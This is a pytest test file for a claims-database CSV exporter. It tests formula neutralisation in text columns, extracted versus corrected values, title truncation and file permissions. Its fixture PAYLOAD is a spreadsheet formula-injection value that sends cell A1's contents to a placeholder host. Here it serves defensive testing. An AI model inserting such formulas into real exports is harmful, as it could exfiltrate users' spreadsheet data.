"""The claims CSV: every text column guarded against formulas (and only against what a
spreadsheet runs), extracted beside corrected values, the source's resolved path, the claim's
fact, bounded titles, and files written with the user's usual mode."""

from __future__ import annotations

import csv
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update
from sqlmodel import SQLModel

from factdb.claims.queries import ClaimFilter
from factdb.claims.review import Correction, review_claim
from factdb.export import EXPORTERS
from factdb.export.cells import TITLE_CAP
from factdb.export.claims_csv import COLUMNS, export_csv
from factdb.facts.listing import fact_of_claim
from factdb.facts.overrides import rename_fact
from factdb.store.database import Database
from factdb.store.models import Article, Claim, Source

PAYLOAD = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
# Columns that are not free text: numbers, the qualifier's fixed vocabulary, a timestamp.
NOT_TEXT = {
    "claim_id", "start", "end", "value", "value_max", "extracted_value", "normalized_value",
    "fact_id", "qualifier", "reviewed_at",
}  # fmt: skip
# Each text column and the stored field its cell shows.
TEXT_FIELDS: dict[str, tuple[type[SQLModel], str]] = {
    "source": (Source, "path"),
    "source_path": (Source, "location"),
    "article": (Article, "title"),
    "quote": (Claim, "quote"),
    "sentence": (Claim, "sentence"),
    "unit": (Claim, "corrected_unit"),
    "extracted_unit": (Claim, "unit"),
    "kind": (Claim, "kind"),
    "noun": (Claim, "corrected_noun"),
    "speaker": (Claim, "speaker"),
    "cited_outlet": (Claim, "cited_outlet"),
    "date_text": (Claim, "date_text"),
    "date": (Claim, "date"),
    "normalized_unit": (Claim, "normalized_unit"),
    "status": (Claim, "status"),
    "note": (Claim, "note"),
    "evidence_url": (Claim, "evidence_url"),
    "reviewed_by": (Claim, "reviewed_by"),
    "rule": (Claim, "rule"),
    "extractor_version": (Claim, "extractor_version"),
}


def _rows(db: Database, path: Path) -> list[dict[str, str]]:
    export_csv(db, path)
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _first_claim(db: Database) -> Claim:
    with db.session() as session:
        return session.get_one(Claim, 1)


def _set(db: Database, model: type[SQLModel], field: str, value: Any, row_id: int) -> None:
    table = SQLModel.metadata.tables[str(model.__tablename__)]
    with db.session() as session:
        session.execute(update(table).where(table.c.id == row_id).values({field: value}))


def test_every_text_column_has_a_formula_case() -> None:
    assert set(TEXT_FIELDS) | {"fact"} == set(COLUMNS) - NOT_TEXT


@pytest.mark.parametrize("column", sorted(TEXT_FIELDS))
def test_a_formula_in_any_text_column_is_neutralised(
    seed_db: Database, tmp_path: Path, column: str
) -> None:
    claim = _first_claim(seed_db)
    model, field = TEXT_FIELDS[column]
    row_id = {Source: claim.source_id, Article: claim.article_id, Claim: claim.id}[model]
    _set(seed_db, model, field, PAYLOAD, row_id)
    row = _rows(seed_db, tmp_path / "claims.csv")[0]
    assert row[column] == "'" + PAYLOAD


def test_the_fact_column_is_neutralised(seed_db: Database, tmp_path: Path) -> None:
    fact = fact_of_claim(seed_db, 1)
    assert fact is not None and fact.id is not None
    rename_fact(seed_db, fact.id, PAYLOAD, reviewer="x")
    row = _rows(seed_db, tmp_path / "claims.csv")[0]
    assert (row["fact_id"], row["fact"]) == (str(fact.id), "'" + PAYLOAD)


@pytest.mark.parametrize("quote", ["-5%", "+2.3 points", "-.5 degrees", "-0.4%"])
def test_a_signed_number_is_written_as_is(seed_db: Database, tmp_path: Path, quote: str) -> None:
    """text[start:end] == quote must hold in the CSV too."""
    _set(seed_db, Claim, "quote", quote, 1)
    assert _rows(seed_db, tmp_path / "claims.csv")[0]["quote"] == quote


def test_extracted_values_beside_the_corrected_ones(seed_db: Database, tmp_path: Path) -> None:
    claim = _first_claim(seed_db)
    before = _rows(seed_db, tmp_path / "claims.csv")[0]
    review_claim(seed_db, claim.id, correction=Correction(value=19000, unit="USD"), reviewer="x")
    after = _rows(seed_db, tmp_path / "claims.csv")[0]
    assert (after["value"], after["unit"]) == ("19000", "USD")
    assert (after["extracted_value"], after["extracted_unit"]) == (before["value"], before["unit"])
    assert (before["extracted_value"], before["extracted_unit"]) == (
        before["value"],
        before["unit"],
    )


def test_source_as_given_and_resolved(seed_db: Database, tmp_path: Path) -> None:
    claim = _first_claim(seed_db)
    given, resolved = "seeds/report.txt", "/data/news/seeds/report.txt"
    _set(seed_db, Source, "path", given, claim.source_id)
    _set(seed_db, Source, "location", resolved, claim.source_id)
    row = _rows(seed_db, tmp_path / "claims.csv")[0]
    assert (row["source"], row["source_path"]) == (given, resolved)


def test_each_row_names_its_claims_fact(seed_db: Database, tmp_path: Path) -> None:
    rows = _rows(seed_db, tmp_path / "claims.csv")
    named = 0
    for row in rows:
        fact = fact_of_claim(seed_db, int(row["claim_id"]), refresh=False)
        assert (row["fact_id"], row["fact"]) == ((str(fact.id), fact.name) if fact else ("", ""))
        named += fact is not None
    assert named > len(rows) / 2


@pytest.fixture
def huge_titles(seed_db: Database) -> Iterator[str]:
    """Every article and source titled by one 1.2 MB line, as a one-line file once gave."""
    title = "word " * 240_000
    with seed_db.session() as session:
        session.execute(update(Article).values(title=title))
        session.execute(update(Source).values(title=title))
    yield title


def test_a_huge_title_is_cut_in_every_row(
    seed_db: Database, tmp_path: Path, huge_titles: str
) -> None:
    path = tmp_path / "claims.csv"
    rows = _rows(seed_db, path)
    assert {len(r["article"]) for r in rows} == {TITLE_CAP}
    assert rows[0]["article"] == huge_titles[: TITLE_CAP - 1] + "…"
    assert path.stat().st_size < len(huge_titles)  # not one copy per row


def test_a_huge_title_is_cut_in_claimreview(
    seed_db: Database, tmp_path: Path, huge_titles: str
) -> None:
    for claim_id in (1, 2, 3):
        review_claim(seed_db, claim_id, status="verified", reviewer="x")
    path = tmp_path / "reviews.jsonld"
    assert EXPORTERS["claimreview"](seed_db, path, ClaimFilter()) == 3
    assert path.stat().st_size < len(huge_titles)


@pytest.mark.parametrize("fmt", sorted(EXPORTERS))
@pytest.mark.parametrize("umask", [0o022, 0o027])
def test_exports_get_the_users_usual_mode(
    seed_db: Database, tmp_path: Path, fmt: str, umask: int
) -> None:
    previous = os.umask(umask)
    try:
        EXPORTERS[fmt](seed_db, tmp_path / f"out.{fmt}", ClaimFilter())
    finally:
        os.umask(previous)
    assert (tmp_path / f"out.{fmt}").stat().st_mode & 0o777 == 0o666 & ~umask
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out")] == []
